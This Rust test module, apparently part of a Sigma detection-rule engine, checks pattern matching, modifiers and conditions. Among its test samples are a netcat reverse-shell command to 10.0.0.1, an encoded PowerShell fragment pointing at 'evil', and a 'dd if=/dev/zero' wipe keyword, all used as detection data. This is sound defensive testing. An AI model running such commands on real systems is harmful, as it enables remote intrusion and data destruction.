    fn base64_and_offsets_match_pysigma() {
        assert_eq!(base64(b"ping"), "cGluZw==");
        assert_eq!(base64(b"http://"), "aHR0cDovLw==");
        // pySigma: 'http://'|base64offset → aHR0cDovL, h0dHA6Ly, odHRwOi8v
        assert_eq!(
            base64_offsets(b"http://"),
            ["aHR0cDovL", "h0dHA6Ly", "odHRwOi8v"]
        );
    }

    #[test]
    fn shorthand_classes_are_spelled_as_ascii_classes() {
        assert_eq!(
            ascii_classes(r"-k\s\w{1,64}"),
            r"-k[[:space:]][[:word:]]{1,64}"
        );
        assert_eq!(ascii_classes(r"[\w.-]+@\D"), r"[[:word:].-]+@[[:^digit:]]");
        assert_eq!(ascii_classes(r"\bcmd\B"), r"(?-u:\b)cmd(?-u:\B)");
        // Escaped backslashes, literal brackets, POSIX classes and `]` first in a bracket.
        assert_eq!(ascii_classes(r"\\w\[\d\]"), r"\\w\[[[:digit:]]\]");
        assert_eq!(
            ascii_classes(r"[]\s][[:alpha:]\d]"),
            r"[][:space:]][[:alpha:][:digit:]]"
        );
        assert_eq!(ascii_classes(r"[^\W]x\"), r"[^[:^word:]]x\");
    }

    /// `re` reads `\w`, `\d`, `\s` and `\b` as PCRE does (ASCII), in both matchers; the
    /// pattern of SigmaHQ that Hyperscan refused with Unicode classes now runs in it.
    #[test]
    fn regular_expressions_have_pcre_classes() {
        let r = rule("  sel:\n    cmd|re: '^\\w+\\s\\d$'\n  condition: sel\n");
        assert!(r.matches(&json!({"cmd": "ab_9 7"})));
        assert!(!r.matches(&json!({"cmd": "abé 7"})));
        assert!(!r.matches(&json!({"cmd": "ab\u{a0}7"})));
        assert!(!r.matches(&json!({"cmd": "ab ٣"})));
        let r = rule("  sel:\n    cmd|re: '\\bx'\n  condition: sel\n");
        assert!(r.matches(&json!({"cmd": "éx"})));
        assert!(!r.matches(&json!({"cmd": "ax"})));
        let r = rule("  sel:\n    cmd|re: '-k\\s\\w{1,64}(?:\\s?(?:-p|-s))?'\n  condition: sel\n");
        assert!(r.matches(&json!({"cmd": "tool -k abc -p"})));
        assert!(!r.matches(&json!({"cmd": "tool -k éé"})));
        #[cfg(feature = "hyperscan")]
        assert_eq!(r.1.stats().regex_patterns, 0, "Hyperscan takes the pattern");
    }

    #[test]
    fn values_and_modifiers() {
        let r = rule("  sel:\n    process.name: 'n*c?t'\n  condition: sel\n");
        assert!(r.matches(&json!({"process.name": "NetCat"})));
        assert!(r.matches(&json!({"process": {"name": "nXcat"}})));
        assert!(!r.matches(&json!({"process.name": "netcat2"})));
        let r = rule(
            "  sel:\n    cmd|contains|all:\n      - ' -e '\n      - '/bin/sh'\n  condition: sel\n",
        );
        assert!(r.matches(&json!({"cmd": "nc -e /bin/sh 10.0.0.1"})));
        assert!(!r.matches(&json!({"cmd": "nc -e /bin/bash"})));
        let r = rule("  sel:\n    user.name|cased: Root\n  condition: sel\n");
        assert!(
            r.matches(&json!({"user.name": "Root"})) && !r.matches(&json!({"user.name": "root"}))
        );
        let r = rule("  sel:\n    source.ip|cidr:\n      - 10.0.0.0/8\n      - '2001:db8::/32'\n  condition: sel\n");
        assert!(r.matches(&json!({"source.ip": "10.9.8.7"})));
        assert!(r.matches(&json!({"source.ip": "2001:db8::1"})));
        assert!(!r.matches(&json!({"source.ip": "192.0.2.1"})));
        let r = rule("  sel:\n    destination.port|gte: 1024\n  condition: sel\n");
        assert!(
            r.matches(&json!({"destination.port": 8080}))
                && !r.matches(&json!({"destination.port": "22"}))
        );
        let r = rule("  sel:\n    url|re: '^/admin/[a-z]+\\.php$'\n  condition: sel\n");
        assert!(
            r.matches(&json!({"url": "/admin/login.php"}))
                && !r.matches(&json!({"url": "/ADMIN/login.php"}))
        );
        let r = rule("  sel:\n    url|re|i: '^/admin/'\n  condition: sel\n");
        assert!(r.matches(&json!({"url": "/ADMIN/x"})));
        let r = rule("  sel:\n    user.name: null\n  condition: sel\n");
        assert!(r.matches(&json!({"a": 1})) && !r.matches(&json!({"user.name": "x"})));
        let r = rule("  sel:\n    user.name|exists: true\n  condition: sel\n");
        assert!(r.matches(&json!({"user.name": "x"})) && !r.matches(&json!({"user": {}})));
        let r = rule("  sel:\n    source.ip|fieldref: destination.ip\n  condition: sel\n");
        assert!(r.matches(&json!({"source.ip": "10.0.0.1", "destination.ip": "10.0.0.1"})));
        assert!(!r.matches(&json!({"source.ip": "10.0.0.1", "destination.ip": "10.0.0.2"})));
        let r = rule("  sel:\n    source.ip|fieldref|neq: destination.ip\n  condition: sel\n");
        assert!(r.matches(&json!({"source.ip": "10.0.0.1", "destination.ip": "10.0.0.2"})));
        let r = rule("  sel:\n    destination.port|neq: 443\n  condition: sel\n");
        assert!(
            r.matches(&json!({"destination.port": 80}))
                && !r.matches(&json!({"destination.port": 443}))
        );
        let r = rule("  sel:\n    cmd|base64offset|contains: 'http://'\n  condition: sel\n");
        assert!(r.matches(&json!({"cmd": "powershell -enc xaHR0cDovL2V2aWwK"})));
        let r = rule("  sel:\n    cmd|windash|contains: ' -exec '\n  condition: sel\n");
        assert!(
            r.matches(&json!({"cmd": "tool /exec x"}))
                && r.matches(&json!({"cmd": "tool —exec x"}))
        );
        let r = rule("  sel:\n    '@timestamp|hour': 3\n  condition: sel\n");
        assert!(r.matches(&json!({"@timestamp": "2026-11-23T03:10:00Z"})));
        let r = rule("  sel:\n    tags: admin\n  condition: sel\n");
        assert!(r.matches(&json!({"tags": ["x", "Admin"]})));
        let r = rule("  sel:\n    path: 'C:\\\\Temp\\*'\n  condition: sel\n");
        assert!(
            r.matches(&json!({"path": "C:\\Temp*"})) && !r.matches(&json!({"path": "C:\\Temp1"}))
        );
    }

    #[test]
    fn texts_the_scan_must_not_miss() {
        // A value with a line break is not in the scan buffer as it is.
        let r = rule("  sel:\n    message|contains: 'b c'\n  condition: sel\n");
        assert!(r.matches(&json!({"message": "a\nb c\nd"})));
        assert!(!r.matches(&json!({"message": "a\nb\nc"})));
        let r = rule("  sel:\n    message: 'a*d'\n  condition: sel\n");
        assert!(r.matches(&json!({"message": "a\nb c\nd"})));
        // `?` is one character, which may be several bytes.
        let r = rule("  sel:\n    user.name: 'jos?'\n  condition: sel\n");
        assert!(r.matches(&json!({"user.name": "josé"})));
        assert!(!r.matches(&json!({"user.name": "josép"})));
        // ASCII case folding only; other letters as they are.
        let r = rule("  sel:\n    user.name: 'ÉLISE'\n  condition: sel\n");
        assert!(r.matches(&json!({"user.name": "Élise"})));
        assert!(!r.matches(&json!({"user.name": "élise"})));
        // Any value at all, the empty value, lists, numbers as text and as numbers.
        let r = rule("  sel:\n    user.name: '*'\n  condition: sel\n");
        assert!(r.matches(&json!({"user.name": ""})) && !r.matches(&json!({"x": 1})));
        let r = rule("  sel:\n    user.name: ''\n  condition: sel\n");
        assert!(r.matches(&json!({"user.name": ""})) && !r.matches(&json!({"user.name": "a"})));
        // A flat dotted key before a nested path; keys with dots are not paths.
        let r = rule("  sel:\n    a.b: x\n  condition: sel\n");
        assert!(r.matches(&json!({"a": {"b": "y"}, "a.b": "x"})));
        assert!(!r.matches(&json!({"a.b": "y", "a": {"b": "x"}})));
        assert!(r.matches(&json!({"a": {"b": "x"}})));
        let r = rule("  sel:\n    a.b.c: x\n  condition: sel\n");
        assert!(!r.matches(&json!({"a.b": {"c": "x"}})));
        assert!(r.matches(&json!({"a": {"b": {"c": "x"}}})));
        let r = rule("  sel:\n    tags|endswith: 'min'\n  condition: sel\n");
        assert!(r.matches(&json!({"tags": ["x", "admin"], "b": 1})));
        let r = rule("  sel:\n    destination.port: 22\n  condition: sel\n");
        assert!(r.matches(&json!({"destination.port": 22})));
        assert!(r.matches(&json!({"destination.port": " 22"})));
        assert!(!r.matches(&json!({"destination.port": 222})));
        let r = rule("  sel:\n    destination.port|startswith: '22'\n  condition: sel\n");
        assert!(r.matches(&json!({"destination.port": 222})));
        let r = rule("  sel:\n    network.bytes|gt: 1000\n  condition: sel\n");
        assert!(r.matches(&json!({"network.bytes": "1001"})));
        assert!(!r.matches(&json!({"network.bytes": 1000})));
        let r = rule("  sel:\n    source.ip|cidr: '2001:db8::/32'\n  condition: sel\n");
        assert!(r.matches(&json!({"source.ip": ["10.0.0.1", "2001:db8:1::5"]})));
        assert!(!r.matches(&json!({"source.ip": "2001:db9::1"})));
        // Regular expressions: anchors are the value's, not the line's.
        let r = rule("  sel:\n    message|re: '^a.c$'\n  condition: sel\n");
        assert!(r.matches(&json!({"message": "abc"})));
        assert!(!r.matches(&json!({"message": "xabc"})));
        assert!(!r.matches(&json!({"message": "a\nc"})));
        let r = rule("  sel:\n    message|re|s: '^a.c$'\n  condition: sel\n");
        assert!(r.matches(&json!({"message": "a\nc"})));
        // Non-ASCII text (`\w` is ASCII, as in PCRE), and `.` is one character, not a byte.
        let r = rule("  sel:\n    message|re: '\\w+é.$'\n  condition: sel\n");
        assert!(r.matches(&json!({"message": "aéé"})));
        assert!(!r.matches(&json!({"message": "ééé"})));
    }

    #[test]
    fn rules_without_a_positive_pattern_run_everywhere() {
        let r = rule("  filter:\n    user.name: root\n  condition: not filter\n");
        assert!(r.matches(&json!({"user.name": "alice"})));
        assert!(r.matches(&json!({"a": 1})));
        assert!(!r.matches(&json!({"user.name": "ROOT"})));
        let r = rule("  sel:\n    user.name: null\n  condition: sel\n");
        assert!(r.matches(&json!({"a": 1})) && !r.matches(&json!({"user.name": "x"})));
        let r = rule("  sel:\n    a|neq: 3\n  condition: sel\n");
        assert!(r.matches(&json!({"a": 4})) && !r.matches(&json!({"a": 3})));
        let r = rule("  sel_a:\n    a: 1\n  sel_b:\n    b: 2\n  condition: 0 of sel_*\n");
        assert!(r.matches(&json!({"c": 1})));
    }

    #[test]
    fn conditions_and_keywords() {
        let r = rule(
            "  sel_a:\n    a: 1\n  sel_b:\n    b: 2\n  filter:\n    c: 3\n  condition: 1 of sel_* and not filter\n",
        );
        assert!(r.matches(&json!({"b": 2})));
        assert!(!r.matches(&json!({"b": 2, "c": 3})));
        assert!(!r.matches(&json!({"x": 1})));
        let r = rule("  sel_a:\n    a: 1\n  sel_b:\n    b: 2\n  condition: all of them\n");
        assert!(r.matches(&json!({"a": 1, "b": "2"})) && !r.matches(&json!({"a": 1})));
        let r = rule("  keywords:\n    - 'Failed password'\n    - 'authentication failure'\n  condition: keywords\n");
        assert!(r.matches(&json!({"message": "sshd[1]: Failed password for root"})));
        assert!(!r.matches(&json!({"message": "Accepted password for root"})));
        let r = rule("  keywords:\n    '|all':\n      - 'dd '\n      - 'if=/dev/zero'\n  condition: keywords\n");
        assert!(r.matches(&json!({"message": "dd if=/dev/zero of=x"})));
        assert!(!r.matches(&json!({"message": "dd if=/dev/urandom of=x"})));
        let r = rule("  keywords:\n    - '*Failed password*'\n  condition: keywords\n");
        assert!(r.matches(&json!({"message": "sshd[1]: Failed password for root"})));
    }

    /// Whether a pattern matches an empty text is known without building its regular
    /// expression, and agrees with it.
    #[test]
    fn empty_text_is_known_without_building_the_regex() {
        use SpecialChar::{WildcardMulti as Many, WildcardSingle as One};
        use StringPart::{Plain, Special};
        let cases = [
            vec![],
            vec![Plain(String::new())],
            vec![Special(Many)],
            vec![Special(Many), Special(Many)],
            vec![Plain("a".into())],
            vec![Special(One)],
            vec![Special(Many), Plain("x".into()), Special(Many)],
            vec![Special(Many), Special(One)],
        ];
        for parts in &cases {
            for (lead, trail) in [(false, false), (true, false), (false, true), (true, true)] {
                let p = text_pattern(parts, lead, trail, true).expect("pattern");
                let re = p.regex().expect("regex");
                assert_eq!(p.empty, re.is_match(""), "{parts:?} {lead} {trail}");
            }
        }
    }
}
